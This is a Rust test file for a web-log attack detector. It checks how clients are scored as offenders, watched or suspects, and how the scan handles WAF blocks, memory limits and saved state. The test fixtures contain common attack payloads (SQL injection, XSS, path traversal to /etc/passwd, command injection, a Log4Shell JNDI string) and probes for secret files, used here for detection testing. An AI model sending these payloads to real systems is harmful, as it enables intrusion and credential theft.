//! What becomes of clients, by all that they sent.

use std::net::{IpAddr, Ipv4Addr};

use portcullis_detection::{
    Correlation, Detection, Findings, Ground, Key, Offender, RuleSet, Scan, StateError, StateKey,
    SuggestsOnly,
};
use portcullis_ingest::WafAction;

use crate::sent::{Sent, observe, parts, rules, scanned};

/// Requests of one client, one a second.
fn history(requests: &[(&'static str, Option<&'static str>, u16)]) -> Findings {
    let sent: Vec<Sent> = requests
        .iter()
        .zip(0..)
        .map(|((path, query, status), number)| Sent {
            object: "o",
            offset: number,
            client: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1))),
            epoch_ms: i64::try_from(number).ok().map(|n| 1_700_000_000_000 + n * 30_000),
            path,
            query: *query,
            agent: None,
            status: *status,
            principal: Some([(number % 7) as u8]),
            waf_action: None,
            waf_is_unknown: false,
        })
        .collect();
    scanned(&sent)
}

const SCRIPT: (&str, Option<&str>, u16) = ("/a", Some("q=<script>"), 403);
const QUOTE: (&str, Option<&str>, u16) = ("/a", Some("q=1'+or+1=1--"), 403);
const DOTFILE: (&str, Option<&str>, u16) = ("/.env", None, 403);
const GOOD: (&str, Option<&str>, u16) = ("/a", None, 200);

#[test]
fn one_flagged_request_makes_an_offender() {
    let findings = history(&[SCRIPT, GOOD]);
    let [offender] = &findings.offenders[..] else { panic!("{findings:?}") };
    assert_eq!((offender.score, offender.flagged_requests, offender.good_requests), (56, 1, 1));
    assert_eq!(offender.source.to_string(), "192.0.2.1/32");
}

#[test]
fn evidence_begins_with_what_was_answered_and_what_broke() {
    let [refused, (path, query, _)] = [SCRIPT, SCRIPT];
    let with = |status| (path, query, status);
    let sent = [refused, refused, with(500), refused, with(200), with(404), with(502), with(201)];
    let findings = history(&sent);
    let [detection] = &findings.offenders[0].detections[..] else { panic!("{findings:?}") };
    let offsets: Vec<u64> = detection.evidence.iter().map(|one| one.offset).collect();
    assert_eq!(offsets, [4, 7, 2]);
}

#[test]
fn observed_requests_alone_make_no_offender() {
    let findings = history(&[DOTFILE; 20]);
    assert_eq!((findings.offenders.len(), findings.watched.len()), (0, 0));
}

#[test]
fn a_good_history_outweighs_a_single_odd_request() {
    let mut requests = vec![GOOD; 300];
    requests[100] = SCRIPT;
    let findings = history(&requests);
    assert!(findings.offenders.is_empty());
    let [watched] = &findings.watched[..] else { panic!("{findings:?}") };
    assert_eq!((watched.good_requests, watched.principals), (299, 7));
}

#[test]
fn a_good_history_does_not_outweigh_a_certain_attack_repeated() {
    let mut requests = vec![GOOD; 1_000];
    requests[100..103].fill(QUOTE);
    assert_eq!(history(&requests).offenders.len(), 1);
}

/// A request to the rules compiled in.
fn from_agent(agent: &'static str, path: &'static str, number: u64, status: u16) -> Sent {
    Sent {
        object: "o",
        offset: number,
        client: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1))),
        epoch_ms: i64::try_from(number).ok().map(|n| 1_700_000_000_000 + n * 30_000),
        path,
        query: None,
        agent: Some(agent),
        status,
        principal: None,
        waf_action: None,
        waf_is_unknown: false,
    }
}

fn scanned_by_all_rules(requests: &[Sent]) -> Findings {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new(&rules);
    for sent in requests {
        observe(&mut scan, sent);
    }
    scan.finish()
}

const SURVEY: &str = "Mozilla/5.0 zgrab/0.x";

#[test]
fn a_survey_that_only_says_what_it_is_is_watched() {
    let findings = scanned_by_all_rules(&[0, 1, 2].map(|n| from_agent(SURVEY, "/", n, 200)));
    assert!(findings.offenders.is_empty(), "{findings:?}");
    let [watched] = &findings.watched[..] else { panic!("{findings:?}") };
    assert!(watched.grounds.contains(&Ground::OnlyItsAgent));
    // A tool of attack means what it says.
    let tool = scanned_by_all_rules(&[from_agent("sqlmap/1.8.4", "/", 0, 200)]);
    assert_eq!(tool.offenders.len(), 1);
}

#[test]
fn a_scanner_that_probes_and_does_nothing_else_is_more_than_its_parts() {
    let probes = ["/.env", "/.git/config", "/backup.sql"];
    let requests: Vec<Sent> =
        (0..).zip(probes).map(|(n, path)| from_agent(SURVEY, path, n, 404)).collect();
    let findings = scanned_by_all_rules(&requests);
    let [offender] = &findings.offenders[..] else { panic!("{findings:?}") };
    assert!(offender.correlations.contains(&Correlation::ScannerThatProbes));
    assert!(offender.grounds.contains(&Ground::Correlated));
    assert_eq!(offender.score, parts(&offender.detections, &offender.correlations));
    // One good request, and the correlation is gone, the probes are not.
    let mut with_good = requests;
    with_good.push(from_agent("curl/8", "/", 3, 200));
    let findings = scanned_by_all_rules(&with_good);
    let [offender] = &findings.offenders[..] else { panic!("{findings:?}") };
    assert!(!offender.correlations.contains(&Correlation::ScannerThatProbes));
}

#[test]
fn requests_that_waf_blocked_never_make_a_burst() {
    let blocked = |number: u64| Sent {
        object: "o",
        offset: number,
        client: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1))),
        epoch_ms: Some(1_700_000_000_000),
        path: "/a",
        query: None,
        agent: None,
        status: 403,
        principal: None,
        waf_action: Some(WafAction::Block),
        waf_is_unknown: false,
    };
    let requests: Vec<Sent> = (0..1_000).map(blocked).collect();
    assert!(scanned(&requests).offenders.is_empty());
    let passed: Vec<Sent> =
        requests.into_iter().map(|sent| Sent { waf_action: None, ..sent }).collect();
    assert_eq!(scanned(&passed).offenders.len(), 1);
}

/// Requests of one client a second, all answered with that status.
fn refusals(status: u16, waf_is_unknown: bool, times: i64) -> Vec<Sent> {
    (0..times)
        .map(|second| Sent {
            object: "a",
            offset: second.unsigned_abs(),
            client: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1))),
            epoch_ms: Some(1_700_000_000_000 + second * 1_000),
            path: "/",
            query: None,
            agent: None,
            status,
            principal: None,
            waf_action: None,
            waf_is_unknown,
        })
        .collect()
}

#[test]
fn refusals_that_may_be_blocks_only_suggest() {
    let told = scanned(&refusals(403, false, 6));
    let [offender] = &told.offenders[..] else { panic!("{told:?}") };
    assert!(offender.detections.iter().all(|detection| detection.suggests.is_none()));

    let untold = scanned(&refusals(403, true, 6));
    assert_eq!(untold.offenders, []);
    let [watched] = &untold.watched[..] else { panic!("{untold:?}") };
    assert_eq!(watched.score, offender.score, "the score is the same");
    let refused = watched.detections.iter().find(|detection| &*detection.rule == "test/refused");
    let suggests = refused.and_then(|detection| detection.suggests);
    assert_eq!(suggests, Some(SuggestsOnly::WafUnknown));

    // Four of them are certain, and enough by themselves.
    let mut both = refusals(403, true, 6);
    for sent in &mut both[..4] {
        sent.waf_is_unknown = false;
    }
    assert_eq!(scanned(&both).offenders.len(), 1);
}

#[test]
fn a_network_is_a_suspect_with_its_members_and_no_offender() {
    let mut requests = refusals(200, false, 7);
    let paths = ["/a", "/b", "/c", "/d", "/e", "/a", "/a"];
    for ((sent, path), host) in requests.iter_mut().zip(paths).zip(1..) {
        sent.path = path;
        sent.client = Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, host.min(5))));
    }
    let findings = scanned(&requests);
    assert_eq!(findings.offenders, []);
    let [suspect] = &findings.suspects[..] else { panic!("{findings:?}") };
    assert_eq!(suspect.key, Key::Network);
    assert_eq!(suspect.value.as_untrusted().bytes(), b"192.0.2.0/24");
    assert_eq!((suspect.requests, suspect.clients), (7, 5));
    assert_eq!(suspect.contributors[0].source.to_string(), "192.0.2.5/32");
    assert_eq!(suspect.contributors[0].requests, 3);

    for sent in &mut requests {
        sent.client = Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 5)));
    }
    assert_eq!(scanned(&requests).suspects, [], "that is one client's doing");
}

#[test]
fn a_state_of_other_rules_another_version_or_another_kind_is_refused() {
    let mut scan = Scan::new(rules());
    observe(&mut scan, &refusals(403, false, 1)[0]);
    let states = scan.drain();
    let (key, state) = &states[0];
    let builtin = RuleSet::builtin();
    let refused = Scan::new(&builtin).absorb(key, state).expect_err("other rules");
    assert_eq!(
        refused,
        StateError::OtherRules { theirs: rules().digest(), ours: builtin.digest() }
    );
    let mut newer = state.clone();
    newer[0] += 1;
    assert_eq!(Scan::new(rules()).absorb(key, &newer), Err(StateError::Version(newer[0])));
    let unknown = StateKey::from(b"?".to_vec());
    assert_eq!(Scan::new(rules()).absorb(&unknown, state), Err(StateError::Key));
    let mut longer = state.clone();
    longer.push(0);
    assert_eq!(Scan::new(rules()).absorb(key, &longer), Err(StateError::Trailing(1)));
}

/// Requests of so many calm clients, three each, ten seconds apart.
fn calm_clients(clients: u32) -> impl Iterator<Item = Sent> {
    (0..clients * 3).map(move |number| {
        let client = Ipv4Addr::from(0xc612_0000 + number % clients);
        Sent {
            client: Some(IpAddr::V4(client)),
            offset: number.into(),
            epoch_ms: Some(1_700_000_000_000 + i64::from(number / clients) * 10_000),
            ..refusals(200, false, 1)[0].clone()
        }
    })
}

#[test]
fn whoever_attacks_is_found_though_calm_clients_are_forgotten() {
    let builtin = RuleSet::builtin();
    let attacks: Vec<Sent> = refusals(404, false, 400)
        .into_iter()
        .map(|sent| Sent { path: if sent.offset % 40 == 0 { "/.env" } else { "/x" }, ..sent })
        .collect();
    let scan = |bytes: usize| {
        let mut scan = Scan::new(&builtin);
        scan.limit_memory(bytes);
        let mut attacks = attacks.iter();
        for (number, calm) in calm_clients(2_000).enumerate() {
            if number % 15 == 0
                && let Some(attack) = attacks.next()
            {
                observe(&mut scan, attack);
            }
            observe(&mut scan, &calm);
        }
        scan.finish()
    };
    let exact = scan(1 << 30);
    assert!(exact.coverage.forgotten.is_nothing(), "{:?}", exact.coverage.forgotten);
    let [offender] = &exact.offenders[..] else { panic!("{:?}", exact.offenders) };

    let limited = scan(1 << 19);
    let forgotten = &limited.coverage.forgotten;
    assert!(forgotten.times > 1_000, "{forgotten:?}");
    assert!(forgotten.over_limit_bytes == 0, "{forgotten:?}");
    assert!(!forgotten.missing.is_empty());
    let [found] = &limited.offenders[..] else { panic!("{:?}", limited.offenders) };
    assert_eq!(found.source, offender.source);
    assert_eq!(found.flagged_requests, offender.flagged_requests);
    // What calm clients did well is not the attacker's.
    assert_eq!((found.good_requests, offender.good_requests), (0, 0));
    assert_eq!(found.requests, offender.requests);
    let signatures = |offender: &Offender| -> Vec<Detection> {
        offender.detections.iter().filter(|one| one.rate.is_none()).cloned().collect()
    };
    assert_eq!(signatures(found), signatures(offender));
    assert_eq!(limited.watched, []);
}

#[test]
fn what_is_forgotten_depends_on_the_requests_and_not_on_the_seed_of_a_table() {
    let builtin = RuleSet::builtin();
    let scanned = || {
        let mut scan = Scan::new(&builtin);
        scan.limit_memory(1 << 19);
        // Some come back again and again, so that a table loses and takes in by turns.
        for (number, calm) in calm_clients(4_000).enumerate() {
            observe(&mut scan, &calm);
            if number % 3 == 0 {
                let one_of_few = Ipv4Addr::from(0xc633_6400 + number as u32 % 977);
                observe(&mut scan, &Sent { client: Some(IpAddr::V4(one_of_few)), ..calm });
            }
        }
        assert!(scan.coverage().forgotten.times > 1_000, "{:?}", scan.coverage().forgotten);
        scan.into_bytes()
    };
    // Each table has a seed of its own.
    let first = scanned();
    for _ in 0..4 {
        assert!(scanned() == first);
    }
}

#[test]
fn when_memory_is_full_evidence_loses_texts_and_neither_its_places_nor_anybody() {
    const PAYLOADS: &str = "id=1'%20UNION%20SELECT%201,user(),3--%20-&q=<script>alert(1)</script>\
        &f=../../../../etc/passwd&c=;cat%20/etc/passwd&j=${jndi:ldap://x/a}";
    let builtin = RuleSet::builtin();
    let scan = |bytes: usize| {
        let mut scan = Scan::new(&builtin);
        scan.limit_memory(bytes);
        for attack in calm_clients(500) {
            observe(&mut scan, &Sent { query: Some(PAYLOADS), ..attack });
        }
        (scan.used_bytes(), scan.finish())
    };
    let (bytes, exact) = scan(1 << 30);
    assert!(exact.coverage.forgotten.is_nothing(), "{:?}", exact.coverage.forgotten);
    let (fewer_bytes, limited) = scan(1 << 19);
    assert!(fewer_bytes < bytes / 3 * 2, "{fewer_bytes} of {bytes}");
    assert_eq!(limited.coverage.forgotten.shortened, 500);
    let places = |offender: &Offender| -> Vec<_> {
        let of = |detection: &Detection| {
            let evidence = detection.evidence.iter();
            let places = evidence.map(|evidence| (evidence.offset, evidence.time)).collect();
            (detection.rule.clone(), detection.points, detection.outcomes, places)
        };
        offender.detections.iter().map(of).collect::<Vec<(_, _, _, Vec<_>)>>()
    };
    let with_texts = |offender: &Offender| {
        let has_text = |detection: &&Detection| {
            detection.evidence.iter().any(|one| !one.text.as_untrusted().bytes().is_empty())
        };
        offender.detections.iter().filter(has_text).count()
    };
    assert_eq!(limited.offenders.len(), 500);
    for (limited, exact) in limited.offenders.iter().zip(&exact.offenders) {
        assert_eq!((limited.source, limited.score), (exact.source, exact.score));
        assert_eq!(places(limited), places(exact));
        assert_eq!(with_texts(exact), exact.detections.len());
        assert!(exact.detections.len() >= 8, "{:?}", exact.detections);
        // A request that came after the last time memory was full has its texts.
        assert!(with_texts(limited) >= 3);
    }
    let shortened = limited.offenders.iter().filter(|offender| with_texts(offender) == 3).count();
    assert!(shortened >= 400, "{shortened}");
}

#[test]
fn no_window_lacks_more_requests_than_is_said() {
    let builtin = RuleSet::builtin();
    // A flood of which the beginning may be forgotten, in between many calm clients.
    let flood = |number: u64| Sent {
        epoch_ms: Some(1_700_000_000_000 + i64::try_from(number).expect("few") * 20),
        offset: number,
        ..refusals(200, false, 1)[0].clone()
    };
    let mut scan = Scan::new(&builtin);
    scan.limit_memory(1 << 18);
    let mut sent = 0;
    for calm in calm_clients(1_000) {
        observe(&mut scan, &calm);
        if sent < 2_000 {
            observe(&mut scan, &flood(sent));
            sent += 1;
        }
    }
    let findings = scan.finish();
    let missing = findings.coverage.forgotten.missing.get("rate/request-flood").copied();
    let missing = missing.expect("some were forgotten");
    assert!(missing < 1_200, "the bound says something: {missing}");
    let flooded = findings.watched.iter().find(|one| one.requests >= 1_000).expect("the flood");
    let rate = flooded.detections.iter().find(|one| &*one.rule == "rate/request-flood");
    let peak = rate.and_then(|detection| detection.rate).expect("a rate").peak;
    assert!(peak <= 2_000 && peak + missing >= 2_000, "{peak} {missing}");
}
